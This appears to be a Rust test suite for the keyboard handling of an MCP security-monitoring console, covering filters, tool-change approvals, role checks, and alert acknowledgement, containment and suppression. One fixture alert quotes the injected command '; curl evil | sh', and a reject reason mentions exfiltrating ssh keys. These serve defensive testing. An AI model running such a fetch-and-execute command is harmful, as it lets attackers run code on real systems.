//! Key handling of the console's pure `update`: crossterm key events in, state changes and
//! effects out (commands to send, filters to apply, the bell, themes), with the role and
//! read-only checks in front of every command.

mod console_fixtures;

use console_fixtures::*;
use crossterm::event::{KeyCode, KeyEvent, KeyModifiers};
use mcpsoc::auth::Role;
use mcpsoc::console::app::{
    self, Action, App, Effect, MessageKind, Mode, Overlay, Pane, PendingCommand, Target,
};
use mcpsoc::console::filter::{FilterKey, Query};
use mcpsoc::protocol::commands::Suppress;
use mcpsoc::protocol::events::{AlertStatus, OwaspMcp, SessionChange, Severity};
use mcpsoc::protocol::frames::Reply;
use mcpsoc::protocol::{Command, CommandError, CommandErrorCode};

fn message(app: &App) -> (&str, MessageKind) {
    app.message
        .as_ref()
        .map(|(text, kind)| (text.as_str(), *kind))
        .unwrap_or(("", MessageKind::Info))
}

/// The command of the only effect, which must be a send.
#[track_caller]
fn sent(effects: &[Effect]) -> &PendingCommand {
    match effects {
        [Effect::Send(pending)] => pending,
        other => panic!("expected one Send, got {other:?}"),
    }
}

fn reply(ok: bool) -> Reply {
    Reply {
        id: "cmd-1".into(),
        ok,
        result: ok.then(|| "done".into()),
        error: (!ok).then(|| CommandError::new(CommandErrorCode::Forbidden, "not allowed here")),
    }
}

// ---------------------------------------------------------------------------------------------
// Panes, quit, help

#[test]
fn number_keys_and_tab_switch_panes() {
    let mut app = app();
    assert_eq!(app.pane, Pane::Calls);
    for (c, pane) in [
        ('2', Pane::Alerts),
        ('3', Pane::Sessions),
        ('4', Pane::Approvals),
        ('1', Pane::Calls),
    ] {
        assert!(press_char(&mut app, c).is_empty());
        assert_eq!(app.pane, pane, "key {c}");
    }
    for pane in [
        Pane::Alerts,
        Pane::Sessions,
        Pane::Approvals,
        Pane::Other,
        Pane::Calls,
    ] {
        press(&mut app, KeyCode::Tab);
        assert_eq!(app.pane, pane);
    }
    for pane in [
        Pane::Other,
        Pane::Approvals,
        Pane::Sessions,
        Pane::Alerts,
        Pane::Calls,
    ] {
        app::update(
            &mut app,
            Action::Key(KeyEvent::new(KeyCode::BackTab, KeyModifiers::SHIFT)),
        );
        assert_eq!(app.pane, pane);
    }
    // Each pane keeps its own selection.
    press_char(&mut app, '2');
    press_char(&mut app, 'j');
    press_char(&mut app, '3');
    assert_eq!(app.current().selected, 0);
    press_char(&mut app, '2');
    assert_eq!(app.current().selected, 1);
    assert!(!app.quit);
}

#[test]
fn q_and_ctrl_c_quit() {
    let mut app = app();
    press_char(&mut app, 'q');
    assert!(app.quit);
    let mut app = self::app();
    app::update(
        &mut app,
        Action::Key(KeyEvent::new(KeyCode::Char('c'), KeyModifiers::CONTROL)),
    );
    assert!(app.quit);
}

#[test]
fn question_mark_toggles_help() {
    let mut app = app();
    press_char(&mut app, '?');
    assert_eq!(app.overlay, Overlay::Help);
    press_char(&mut app, '?');
    assert_eq!(app.overlay, Overlay::None);
    // Any key closes the help, and does nothing else.
    press_char(&mut app, '?');
    press_char(&mut app, 'q');
    assert_eq!(app.overlay, Overlay::None);
    assert!(!app.quit);
    press_char(&mut app, 'q');
    assert!(app.quit);
}

#[test]
fn enter_opens_and_esc_closes_the_detail() {
    let mut app = app();
    press(&mut app, KeyCode::Enter);
    assert_eq!(app.overlay, Overlay::Detail);
    press_char(&mut app, 'j');
    press_char(&mut app, 'j');
    assert_eq!(app.detail_scroll, 2, "j scrolls the detail");
    assert_eq!(app.current().selected, 0, "and does not move the selection");
    press_char(&mut app, 'k');
    assert_eq!(app.detail_scroll, 1);
    press(&mut app, KeyCode::Esc);
    assert_eq!(app.overlay, Overlay::None);
    // Nothing to open on an empty pane.
    let mut empty = new_app(false, true, false);
    press(&mut empty, KeyCode::Enter);
    assert_eq!(empty.overlay, Overlay::None);
}

// ---------------------------------------------------------------------------------------------
// Filters

const QUERY: &str = "user:alice decision:deny";

#[test]
fn filter_on_calls_asks_the_worker() {
    let mut app = app();
    assert!(press_char(&mut app, '/').is_empty());
    assert_eq!(
        app.mode,
        Mode::Filter {
            input: String::new(),
            error: None
        }
    );
    assert!(type_text(&mut app, QUERY).is_empty());
    assert_eq!(
        app.mode,
        Mode::Filter {
            input: QUERY.into(),
            error: None
        }
    );
    // The footer echoes what is typed.
    let s = screen(&app, 80, 24);
    assert!(s[23].starts_with(&format!("/{QUERY}█")), "{}", dump(&s));
    let effects = press(&mut app, KeyCode::Enter);
    let [Effect::CallsFilter(query)] = effects.as_slice() else {
        panic!("expected CallsFilter, got {effects:?}");
    };
    assert_eq!(query.exact(FilterKey::User), Some("alice"));
    assert_eq!(query.exact(FilterKey::Decision), Some("deny"));
    assert_eq!(query.source(), QUERY);
    assert_eq!(app.mode, Mode::Normal);
    assert_eq!(app.current().filter_text, QUERY);
    assert!(app.current().follow);
    let s = screen(&app, 100, 30);
    assert!(s[1].contains(&format!("/{QUERY}")), "{}", dump(&s));

    // `/` again starts from the active filter; Backspace edits it.
    press_char(&mut app, '/');
    press(&mut app, KeyCode::Backspace);
    assert_eq!(
        app.mode,
        Mode::Filter {
            input: QUERY[..QUERY.len() - 1].into(),
            error: None
        }
    );
    // Esc in the prompt leaves the filter as it was.
    assert!(press(&mut app, KeyCode::Esc).is_empty());
    assert_eq!(app.mode, Mode::Normal);
    assert_eq!(app.current().filter_text, QUERY);
    // Esc outside clears it, and the worker re-reads unfiltered.
    let effects = press(&mut app, KeyCode::Esc);
    assert_eq!(effects, vec![Effect::CallsFilter(Query::default())]);
    assert!(app.current().filter_text.is_empty());
}

#[test]
fn filter_on_alerts_filters_rows_in_place() {
    let mut app = app();
    press_char(&mut app, '2');
    assert_eq!(app.current().visible, vec![0, 1, 2, 3]);
    press_char(&mut app, '/');
    type_text(&mut app, QUERY);
    assert!(
        press(&mut app, KeyCode::Enter).is_empty(),
        "no worker round trip"
    );
    // Alerts have no decision: the filter is refused with the keys this pane has, the prompt
    // stays open and the rows stay as they were.
    match &app.mode {
        Mode::Filter { error: Some(e), .. } => {
            assert!(e.contains("`decision`") && e.contains("severity"), "{e}")
        }
        other => panic!("expected the filter prompt with an error, got {other:?}"),
    }
    assert!(app.current().filter_text.is_empty());
    assert_eq!(app.current().visible, vec![0, 1, 2, 3]);
    let s = screen(&app, 100, 30);
    assert_screen(&s, "no `decision`");
    press(&mut app, KeyCode::Esc);

    // A filter that alerts understand keeps the matching rows, in order.
    press_char(&mut app, '/');
    app::update(
        &mut app,
        Action::Key(KeyEvent::new(KeyCode::Char('u'), KeyModifiers::CONTROL)),
    );
    type_text(&mut app, "user:alice");
    press(&mut app, KeyCode::Enter);
    assert_eq!(app.current().visible, vec![1]);
    assert_eq!(
        app.selected_alert().map(|a| a.alert.alert_id.as_str()),
        Some("al-0002")
    );
    press_char(&mut app, '/');
    app::update(
        &mut app,
        Action::Key(KeyEvent::new(KeyCode::Char('u'), KeyModifiers::CONTROL)),
    );
    type_text(&mut app, "severity:>=high -status:resolved");
    press(&mut app, KeyCode::Enter);
    assert_eq!(app.current().visible, vec![0, 1, 2]);
    // The filter holds for later snapshots.
    let mut next = snapshot();
    next.alerts.push(alert(
        "al-0010",
        "supply_chain.new_server",
        Severity::Low,
        AlertStatus::New,
        OwaspMcp::Mcp09ShadowServers,
        "unknown server registered",
    ));
    feed(&mut app, next);
    assert_eq!(app.current().visible, vec![0, 1, 2]);
    // Esc clears it.
    assert!(press(&mut app, KeyCode::Esc).is_empty());
    assert!(app.current().filter_text.is_empty());
    assert_eq!(app.current().visible, vec![0, 1, 2, 3, 4]);
}

#[test]
fn a_bad_filter_keeps_the_prompt_open_with_the_error() {
    let mut app = app();
    for pane in ['1', '2'] {
        press_char(&mut app, pane);
        press_char(&mut app, '/');
        type_text(&mut app, "usr:x");
        let effects = press(&mut app, KeyCode::Enter);
        assert!(effects.is_empty(), "{effects:?}");
        match &app.mode {
            Mode::Filter {
                input,
                error: Some(error),
            } => {
                assert_eq!(input, "usr:x");
                assert!(error.contains("usr"), "{error}");
            }
            other => panic!("expected the prompt with an error, got {other:?}"),
        }
        assert!(app.current().filter_text.is_empty());
        let s = screen(&app, 100, 30);
        assert!(s[29].contains("unknown filter key `usr`"), "{}", dump(&s));
        // Typing clears the error; Esc leaves the prompt.
        press(&mut app, KeyCode::Backspace);
        assert!(matches!(app.mode, Mode::Filter { error: None, .. }));
        press(&mut app, KeyCode::Esc);
        assert_eq!(app.mode, Mode::Normal);
    }
}

// ---------------------------------------------------------------------------------------------
// Approvals

#[test]
fn approve_sends_the_selected_hash_to_the_row_source() {
    let mut app = app();
    press_char(&mut app, '4');
    let effects = press_char(&mut app, 'a');
    let pending = sent(&effects);
    assert_eq!(pending.source, GW);
    assert_eq!(
        pending.command,
        Command::ApproveToolChange {
            upstream: "files".into(),
            tool: "read_file".into(),
            proposed_hash: PROPOSED_HASH.into(),
            reason: None,
        }
    );
    let target = Target::Tool(GW.into(), "files".into(), "read_file".into());
    assert_eq!(pending.target, target);
    assert!(app.in_flight.contains_key(&target));
    let s = screen(&app, 100, 30);
    let row = line_of(&s, "read_file").expect("row");
    assert!(s[row].contains("approving"), "{}", dump(&s));
    // Once is enough: a second press while pending sends nothing.
    assert!(press_char(&mut app, 'a').is_empty());
    assert!(message(&app).0.contains("still pending"));

    // The other row: its own hash.
    press_char(&mut app, 'j');
    let effects = press_char(&mut app, 'a');
    assert!(matches!(
        &sent(&effects).command,
        Command::ApproveToolChange { tool, proposed_hash, .. }
            if tool == "delete_repo" && proposed_hash == NEW_TOOL_HASH
    ));

    // The change leaves the pending list: confirmed, no longer in flight.
    let mut next = snapshot();
    next.changes.remove(0);
    feed(&mut app, next);
    assert!(!app.in_flight.contains_key(&target));
}

#[test]
fn reject_asks_for_a_reason_then_sends_it() {
    let mut app = app();
    press_char(&mut app, '4');
    assert!(press_char(&mut app, 'x').is_empty());
    let Mode::Reason { input, then } = &app.mode else {
        panic!("expected the reason prompt, got {:?}", app.mode);
    };
    assert!(input.is_empty());
    assert_eq!(then.source, GW);
    let s = screen(&app, 100, 30);
    assert!(s[29].contains("reject reason (optional):"), "{}", dump(&s));
    assert!(type_text(&mut app, "description now exfiltrates ssh keys").is_empty());
    let effects = press(&mut app, KeyCode::Enter);
    let pending = sent(&effects);
    assert_eq!(pending.source, GW);
    assert_eq!(
        pending.command,
        Command::RejectToolChange {
            upstream: "files".into(),
            tool: "read_file".into(),
            proposed_hash: PROPOSED_HASH.into(),
            reason: Some("description now exfiltrates ssh keys".into()),
        }
    );
    assert_eq!(app.mode, Mode::Normal);

    // An empty reason is no reason; Esc cancels.
    press_char(&mut app, 'j');
    press_char(&mut app, 'x');
    press(&mut app, KeyCode::Esc);
    assert_eq!(app.mode, Mode::Normal);
    assert!(message(&app).0.contains("cancelled"));
    press_char(&mut app, 'x');
    type_text(&mut app, "   ");
    let effects = press(&mut app, KeyCode::Enter);
    assert!(matches!(
        &sent(&effects).command,
        Command::RejectToolChange { reason: None, proposed_hash, .. } if proposed_hash == NEW_TOOL_HASH
    ));
}

#[test]
fn a_viewer_cannot_approve_or_reject() {
    let mut app = app_with(Role::Viewer, false, false);
    press_char(&mut app, '4');
    assert!(press_char(&mut app, 'a').is_empty());
    let (text, kind) = message(&app);
    assert_eq!(kind, MessageKind::Error);
    assert!(text.contains("needs role approver"), "{text}");
    assert!(text.contains("you are viewer on gw"), "{text}");
    assert!(app.in_flight.is_empty());
    assert_eq!(app.mode, Mode::Normal);
    assert!(press_char(&mut app, 'x').is_empty());
    assert_eq!(
        app.mode,
        Mode::Normal,
        "no reason prompt for a refused reject"
    );
    assert!(message(&app).0.contains("needs role approver"));
    // A responder may not either.
    let mut app = app_with(Role::Responder, false, false);
    press_char(&mut app, '4');
    assert!(press_char(&mut app, 'a').is_empty());
    assert!(message(&app).0.contains("you are responder on gw"));
    // Nor anyone when the source is not connected.
    let mut app = new_app(false, false, false);
    feed(&mut app, snapshot());
    press_char(&mut app, '4');
    assert!(press_char(&mut app, 'a').is_empty());
    assert!(message(&app).0.contains("not connected to gw"));
}

#[test]
fn read_only_sends_no_command() {
    let mut app = app_with(Role::Approver, true, false);
    let mut effects = Vec::new();
    press_char(&mut app, '4');
    effects.extend(press_char(&mut app, 'a'));
    effects.extend(press_char(&mut app, 'x'));
    effects.extend(type_text(&mut app, "y"));
    effects.extend(press(&mut app, KeyCode::Enter));
    press_char(&mut app, '2');
    effects.extend(press_char(&mut app, 'a'));
    effects.extend(press_char(&mut app, 'r'));
    press_char(&mut app, 'j');
    effects.extend(press_char(&mut app, 'c'));
    effects.extend(press_char(&mut app, 'y'));
    press_char(&mut app, '3');
    effects.extend(press_char(&mut app, 'x'));
    effects.extend(press_char(&mut app, 'y'));
    assert!(
        !effects.iter().any(|e| matches!(e, Effect::Send(_))),
        "{effects:?}"
    );
    assert!(app.in_flight.is_empty());
    let (text, kind) = message(&app);
    assert_eq!(kind, MessageKind::Error);
    assert!(text.contains("read-only"), "{text}");
}

// ---------------------------------------------------------------------------------------------
// Alerts

#[test]
fn acknowledge_shows_pending_until_the_snapshot_confirms() {
    let mut app = app();
    press_char(&mut app, '2');
    let effects = press_char(&mut app, 'a');
    let pending = sent(&effects);
    assert_eq!(pending.source, MON);
    assert_eq!(
        pending.command,
        Command::AcknowledgeAlert {
            alert_id: "al-0001".into(),
            note: None
        }
    );
    let target = Target::Alert(MON.into(), "al-0001".into());
    assert_eq!(pending.target, target);
    let s = screen(&app, 120, 40);
    let row = line_of(&s, "poisoning").expect("row");
    assert!(s[row].contains("acking"), "{}", dump(&s));
    // The producer says ok, but the event has not arrived: still pending.
    app::update(
        &mut app,
        Action::CommandDone(target.clone(), Ok(reply(true))),
    );
    assert_eq!(message(&app), ("ok: done", MessageKind::Ok));
    assert!(app.in_flight.get(&target).is_some_and(|f| f.replied));
    feed(&mut app, snapshot());
    assert!(app.in_flight.contains_key(&target));
    let s = screen(&app, 120, 40);
    assert!(s[line_of(&s, "poisoning").expect("row")].contains("acking"));
    // The event shows the new status: no longer pending.
    let mut next = snapshot();
    next.alerts[0].alert.status = AlertStatus::Acknowledged;
    next.alerts[0].alert.by = Some("console".into());
    feed(&mut app, next);
    assert!(app.in_flight.is_empty());
    let s = screen(&app, 120, 40);
    let row = line_of(&s, "poisoning").expect("row");
    assert!(s[row].contains("CRIT ack"), "{}", dump(&s));
}

#[test]
fn resolve_refused_clears_pending_with_an_error() {
    let mut app = app();
    press_char(&mut app, '2');
    press_char(&mut app, 'j');
    let effects = press_char(&mut app, 'r');
    let pending = sent(&effects);
    assert_eq!(
        pending.command,
        Command::ResolveAlert {
            alert_id: "al-0002".into(),
            note: None
        }
    );
    assert_eq!(pending.source, MON);
    let target = pending.target.clone();
    let s = screen(&app, 120, 40);
    assert!(s[line_of(&s, "session.reuse").expect("row")].contains("resolving"));
    app::update(
        &mut app,
        Action::CommandDone(target.clone(), Ok(reply(false))),
    );
    let (text, kind) = message(&app);
    assert_eq!(kind, MessageKind::Error);
    assert!(text.starts_with("refused:"), "{text}");
    assert!(text.contains("not allowed here"), "{text}");
    assert!(app.in_flight.is_empty());
    let s = screen(&app, 120, 40);
    let row = line_of(&s, "session.reuse").expect("row");
    assert!(s[row].contains("HIGH NEW"), "{}", dump(&s));
    assert!(
        s[38].contains("refused: forbidden: not allowed here"),
        "{}",
        dump(&s)
    );
    // A command that never got there: also an error, also no longer pending.
    let effects = press_char(&mut app, 'r');
    let target = sent(&effects).target.clone();
    app::update(
        &mut app,
        Action::CommandDone(target, Err("connection lost".into())),
    );
    assert_eq!(
        message(&app),
        ("not sent: connection lost", MessageKind::Error)
    );
    assert!(app.in_flight.is_empty());
}

#[test]
fn contain_revokes_the_session_at_the_source_that_owns_it() {
    let mut app = app();
    press_char(&mut app, '2');
    press_char(&mut app, 'j'); // al-0002, about session alice:s-7f3a, raised by the monitor
    assert!(press_char(&mut app, 'c').is_empty());
    let Mode::Confirm { prompt, then } = app.mode.clone() else {
        panic!("expected a confirmation, got {:?}", app.mode);
    };
    assert_eq!(
        prompt,
        "Revoke session alice:s-7f3a at gw?\nThe token proved no client: cuts off ALL of alice's access through gw (tokens issued until now).\n[y/N]"
    );
    assert_eq!(
        then.source, GW,
        "the gateway owns the binding, not the monitor"
    );
    let s = screen(&app, 80, 24);
    assert_screen(&s, "Revoke session alice:s-7f3a at gw?");
    assert_screen(&s, "cuts off ALL of alice's");
    // The question is whole at 80x24, the wrapped explanation included.
    assert_screen(&s, "[y/N]");
    let effects = press_char(&mut app, 'y');
    let pending = sent(&effects);
    assert_eq!(pending.source, GW);
    assert!(matches!(
        &pending.command,
        Command::RevokeSession { binding, reason: Some(reason) }
            if binding == "alice:s-7f3a" && reason.contains("al-0002")
    ));
    assert_eq!(
        pending.target,
        Target::Session(GW.into(), "alice:s-7f3a".into())
    );
    assert_eq!(app.mode, Mode::Normal);

    // Any other key cancels.
    let mut app = self::app();
    press_char(&mut app, '2');
    press_char(&mut app, 'j');
    press_char(&mut app, 'c');
    assert!(press_char(&mut app, 'n').is_empty());
    assert_eq!(app.mode, Mode::Normal);
    assert_eq!(message(&app).0, "cancelled");
    press_char(&mut app, 'c');
    assert!(press(&mut app, KeyCode::Enter).is_empty());
    assert_eq!(app.mode, Mode::Normal);
    assert!(app.in_flight.is_empty());
}

#[test]
fn contain_blocks_the_tool_or_asks_which() {
    // al-0001 names a gateway tool and no session: block it, at the gateway.
    let mut app = app();
    press_char(&mut app, '2');
    press_char(&mut app, 'c');
    let Mode::Confirm { prompt, .. } = &app.mode else {
        panic!("expected a confirmation, got {:?}", app.mode);
    };
    assert_eq!(
        prompt,
        "Block tool files/read_file at gw until approved again? [y/N]"
    );
    let effects = press_char(&mut app, 'Y');
    let pending = sent(&effects);
    assert_eq!(pending.source, GW);
    assert!(matches!(
        &pending.command,
        Command::BlockTool { upstream, tool, .. } if upstream == "files" && tool == "read_file"
    ));

    // Both a session and a tool: choose, then confirm.
    let mut snap = snapshot();
    snap.alerts[0].alert.refs.session = Some("bob:cursor".into());
    let mut app = self::app();
    feed(&mut app, snap);
    press_char(&mut app, '2');
    press_char(&mut app, 'c');
    assert!(matches!(
        &app.mode,
        Mode::Contain {
            session: Some(_),
            tool: Some(_)
        }
    ));
    let s = screen(&app, 100, 30);
    assert_screen(&s, "s  revoke session (bob:cursor)");
    assert_screen(&s, "b  block tool (files/read_file)");
    press_char(&mut app, 's');
    assert!(matches!(&app.mode, Mode::Confirm { prompt, .. } if prompt.contains("bob:cursor")));
    let effects = press_char(&mut app, 'y');
    assert!(matches!(
        &sent(&effects).command,
        Command::RevokeSession { binding, .. } if binding == "bob:cursor"
    ));

    // Nothing known to contain.
    let mut app = self::app();
    press_char(&mut app, '2');
    press_char(&mut app, 'j');
    press_char(&mut app, 'j'); // al-0003: a user only
    assert!(press_char(&mut app, 'c').is_empty());
    assert_eq!(app.mode, Mode::Normal);
    assert!(message(&app).0.contains("nothing to contain"));
}

#[test]
fn shift_s_suppresses_the_finding_at_its_hash_after_a_confirmation() {
    let mut app = app();
    press_char(&mut app, '2');
    // al-0001: poisoning on files/read_file at PROPOSED_HASH, raised by the monitor.
    assert!(
        press_char(&mut app, 'S').is_empty(),
        "nothing sent before y"
    );
    let Mode::Confirm { prompt, then } = app.mode.clone() else {
        panic!("expected a confirmation, got {:?}", app.mode);
    };
    assert_eq!(
        prompt,
        format!(
            "Suppress poisoning.hidden_instructions on files/read_file at {PROPOSED_HASH} (a changed definition alerts again)? [y/N]"
        )
    );
    assert_eq!(then.source, MON, "suppressions go to the monitor");
    let s = screen(&app, 200, 24);
    assert_screen(
        &s,
        "Suppress poisoning.hidden_instructions on files/read_file",
    );
    let effects = press_char(&mut app, 'y');
    let pending = sent(&effects);
    assert_eq!(pending.source, MON);
    assert_eq!(
        pending.command,
        Command::SuppressFinding(Box::new(Suppress {
            rule: "poisoning.hidden_instructions".into(),
            upstream: Some("files".into()),
            tool: Some("read_file".into()),
            tool_hash: Some(PROPOSED_HASH.into()),
            user: None,
            alert_id: Some("al-0001".into()),
            reason: Some("false positive (alert al-0001)".into()),
        }))
    );
    let target = Target::Alert(MON.into(), "al-0001".into());
    assert_eq!(pending.target, target);
    let s = screen(&app, 120, 40);
    assert!(
        s[line_of(&s, "poisoning").expect("row")].contains("suppress…"),
        "{}",
        dump(&s)
    );
    // The monitor resolves the alert: no longer pending.
    let mut next = snapshot();
    next.alerts[0].alert.status = AlertStatus::Resolved;
    feed(&mut app, next);
    assert!(app.in_flight.is_empty());

    // A user-only alert suppresses for that user; any key but y cancels.
    let mut app = self::app();
    press_char(&mut app, '2');
    press_char(&mut app, 'j');
    press_char(&mut app, 'j'); // al-0003: user bob, no tool
    press_char(&mut app, 'S');
    let Mode::Confirm { then, .. } = app.mode.clone() else {
        panic!("expected a confirmation, got {:?}", app.mode);
    };
    assert!(matches!(
        &then.command,
        Command::SuppressFinding(s) if s.user.as_deref() == Some("bob") && s.tool.is_none()
    ));
    assert!(press_char(&mut app, 'n').is_empty());
    assert_eq!(message(&app).0, "cancelled");
    assert!(app.in_flight.is_empty());

    // A viewer is told why before anything is sent.
    let mut app = app_with(Role::Viewer, false, true);
    press_char(&mut app, '2');
    press_char(&mut app, 'S');
    let effects = press_char(&mut app, 'y');
    assert!(effects.is_empty());
    assert!(
        message(&app).0.contains("needs role responder"),
        "{:?}",
        message(&app)
    );
}

#[test]
fn revoke_on_sessions_asks_then_sends() {
    let mut app = app();
    press_char(&mut app, '3');
    assert!(press_char(&mut app, 'x').is_empty());
    let Mode::Confirm { prompt, then } = &app.mode else {
        panic!("expected a confirmation, got {:?}", app.mode);
    };
    assert_eq!(
        prompt,
        "Revoke session alice:s-7f3a at gw?\nThe token proved no client: cuts off ALL of alice's access through gw (tokens issued until now).\n[y/N]"
    );
    assert_eq!(then.source, GW);
    let effects = press_char(&mut app, 'y');
    let pending = sent(&effects);
    assert_eq!(
        pending.command,
        Command::RevokeSession {
            binding: "alice:s-7f3a".into(),
            reason: None
        }
    );
    let target = Target::Session(GW.into(), "alice:s-7f3a".into());
    assert_eq!(pending.target, target);
    let s = screen(&app, 120, 40);
    assert!(s[line_of(&s, "alice:s-7f3a").expect("row")].contains("revoking"));
    // The binding shows revoked: confirmed.
    let mut next = snapshot();
    next.sessions[0].session.change = SessionChange::Revoked;
    feed(&mut app, next);
    assert!(app.in_flight.is_empty());
    let s = screen(&app, 120, 40);
    assert!(s[line_of(&s, "alice:s-7f3a").expect("row")].contains("REVOKED"));

    // Any other key cancels.
    press_char(&mut app, 'j');
    press_char(&mut app, 'x');
    assert!(press(&mut app, KeyCode::Esc).is_empty());
    assert_eq!(app.mode, Mode::Normal);
    // A viewer is refused before the question.
    let mut app = app_with(Role::Viewer, false, false);
    press_char(&mut app, '3');
    assert!(press_char(&mut app, 'x').is_empty());
    assert_eq!(app.mode, Mode::Normal);
    assert!(message(&app).0.contains("needs role responder"));
}

// ---------------------------------------------------------------------------------------------
// Tool calls

#[test]
fn moving_down_pauses_and_f_follows() {
    let mut app = app();
    assert!(app.current().follow);
    press_char(&mut app, 'j');
    assert_eq!(app.current().selected, 1);
    assert!(!app.current().follow);
    // A new snapshot keeps the selected row.
    let mut next = snapshot();
    let mut newer = call(
        20,
        1,
        "carol",
        "carol:s-1",
        "github",
        "get_file",
        serde_json::json!({}),
        mcpsoc::protocol::events::Decision::Allow,
    );
    newer.call.call_id = "c-new".into();
    next.calls.insert(0, newer);
    feed(&mut app, next);
    assert_eq!(app.current().selected, 2);
    assert_eq!(app.current().new_while_paused, 1);
    press_char(&mut app, 'f');
    assert!(app.current().follow);
    assert_eq!(app.current().selected, 0);
    assert_eq!(app.current().new_while_paused, 0);
    // `p` pauses in place.
    press_char(&mut app, 'p');
    assert!(!app.current().follow);
    assert_eq!(app.current().selected, 0);
}

#[test]
fn opening_a_call_pins_it() {
    let mut app = app();
    assert!(app.current().follow);
    press(&mut app, KeyCode::Enter);
    assert_eq!(app.overlay, Overlay::Detail);
    assert!(!app.current().follow, "the detail stops the follow");
    let s = screen(&app, 100, 30);
    assert!(s[1].contains("tool call read_file"), "{}", dump(&s));
    // A newer call arrives: the detail still shows the call that was opened.
    let mut next = snapshot();
    next.calls.insert(
        0,
        call(
            21,
            2,
            "carol",
            "carol:s-1",
            "github",
            "get_file",
            serde_json::json!({"path": "README.md"}),
            mcpsoc::protocol::events::Decision::Allow,
        ),
    );
    feed(&mut app, next);
    let s = screen(&app, 100, 30);
    assert!(s[1].contains("tool call read_file"), "{}", dump(&s));
    assert_screen(&s, "source: gw #12");
    press(&mut app, KeyCode::Esc);
    let s = screen(&app, 100, 30);
    assert!(s[1].contains("paused, 1 new"), "{}", dump(&s));
    press_char(&mut app, 'f');
    assert!(app.current().follow);
}

#[test]
fn s_jumps_to_the_session_of_the_call() {
    let mut app = app();
    assert!(press_char(&mut app, 's').is_empty());
    assert_eq!(app.pane, Pane::Sessions);
    assert_eq!(app.current().filter_text, "binding:\"alice:s-7f3a\"");
    assert_eq!(app.current().visible, vec![0]);
    assert_eq!(
        app.selected_session().map(|s| s.session.binding.as_str()),
        Some("alice:s-7f3a")
    );
    press_char(&mut app, '1');
    press_char(&mut app, 'j');
    press_char(&mut app, 's');
    assert_eq!(app.pane, Pane::Sessions);
    assert_eq!(app.current().visible, vec![1]);
    // From an alert too.
    press_char(&mut app, '2');
    press_char(&mut app, 'j');
    press_char(&mut app, 's');
    assert_eq!(app.pane, Pane::Sessions);
    assert_eq!(app.current().visible, vec![0]);
}

#[test]
fn the_end_of_the_window_loads_older_calls() {
    let mut app = app();
    assert!(press_char(&mut app, 'j').is_empty(), "no more: no load");
    assert!(press_char(&mut app, 'G').is_empty());
    let mut more = snapshot();
    more.calls_more = true;
    feed(&mut app, more);
    press_char(&mut app, 'g');
    assert!(press_char(&mut app, 'j').is_empty(), "not at the end yet");
    assert_eq!(press_char(&mut app, 'j'), vec![Effect::LoadOlder]);
    assert_eq!(app.current().selected, 2);
    press_char(&mut app, 'g');
    assert_eq!(press_char(&mut app, 'G'), vec![Effect::LoadOlder]);
    assert_eq!(press(&mut app, KeyCode::PageDown), vec![Effect::LoadOlder]);
}

// ---------------------------------------------------------------------------------------------
// Bell

fn with_new_alert(severity: Severity, status: AlertStatus) -> mcpsoc::console::data::Snapshot {
    let mut snap = snapshot();
    snap.alerts.insert(
        0,
        alert(
            &format!("al-new-{severity:?}-{status:?}"),
            "injection.shell_metacharacters",
            severity,
            status,
            OwaspMcp::Mcp05CommandInjection,
            "run_command argument carries `; curl evil | sh`",
        ),
    );
    snap
}

#[test]
fn a_new_critical_alert_rings_the_bell_once() {
    // The first snapshot already has a critical alert: no bell (the fixture checks it).
    let mut app = app();
    assert!(feed(&mut app, snapshot()).is_empty(), "same alerts again");
    assert!(feed(&mut app, with_new_alert(Severity::High, AlertStatus::New)).is_empty());
    assert!(
        feed(
            &mut app,
            with_new_alert(Severity::Critical, AlertStatus::Acknowledged)
        )
        .is_empty(),
        "already taken"
    );
    assert_eq!(
        feed(
            &mut app,
            with_new_alert(Severity::Critical, AlertStatus::New)
        ),
        vec![Effect::Bell]
    );
    assert!(
        feed(
            &mut app,
            with_new_alert(Severity::Critical, AlertStatus::New)
        )
        .is_empty(),
        "once per alert"
    );
    // Two new critical alerts in one snapshot: one bell.
    let mut two = with_new_alert(Severity::Critical, AlertStatus::New);
    for id in ["al-x1", "al-x2"] {
        two.alerts.push(alert(
            id,
            "poisoning.rug_pull",
            Severity::Critical,
            AlertStatus::New,
            OwaspMcp::Mcp03ToolPoisoning,
            "definition changed after approval",
        ));
    }
    assert_eq!(feed(&mut app, two), vec![Effect::Bell]);
}

#[test]
fn no_bell_when_turned_off() {
    let mut app = app_with(Role::Approver, false, false);
    assert!(
        feed(
            &mut app,
            with_new_alert(Severity::Critical, AlertStatus::New)
        )
        .is_empty()
    );
}

// ---------------------------------------------------------------------------------------------
// Command line

#[test]
fn colon_commands() {
    let mut app = app();
    assert!(press_char(&mut app, ':').is_empty());
    assert_eq!(
        app.mode,
        Mode::Command {
            input: String::new()
        }
    );
    type_text(&mut app, "theme light");
    let s = screen(&app, 80, 24);
    assert!(s[23].starts_with(":theme light█"), "{}", dump(&s));
    assert_eq!(
        press(&mut app, KeyCode::Enter),
        vec![Effect::LoadTheme("light".into())]
    );
    assert_eq!(app.mode, Mode::Normal);

    press_char(&mut app, ':');
    type_text(&mut app, "bogus");
    assert!(press(&mut app, KeyCode::Enter).is_empty());
    let (text, kind) = message(&app);
    assert_eq!(kind, MessageKind::Error);
    assert!(text.contains("unknown command :bogus"), "{text}");

    press_char(&mut app, ':');
    type_text(&mut app, "export /tmp/alerts.jsonl");
    assert_eq!(
        press(&mut app, KeyCode::Enter),
        vec![Effect::Export("/tmp/alerts.jsonl".into())]
    );
    press_char(&mut app, ':');
    type_text(&mut app, "help");
    press(&mut app, KeyCode::Enter);
    assert_eq!(app.overlay, Overlay::Help);
    press(&mut app, KeyCode::Esc);
    // Esc abandons the line.
    press_char(&mut app, ':');
    type_text(&mut app, "q");
    press(&mut app, KeyCode::Esc);
    assert!(!app.quit);
    press_char(&mut app, ':');
    type_text(&mut app, "q");
    press(&mut app, KeyCode::Enter);
    assert!(app.quit);
}
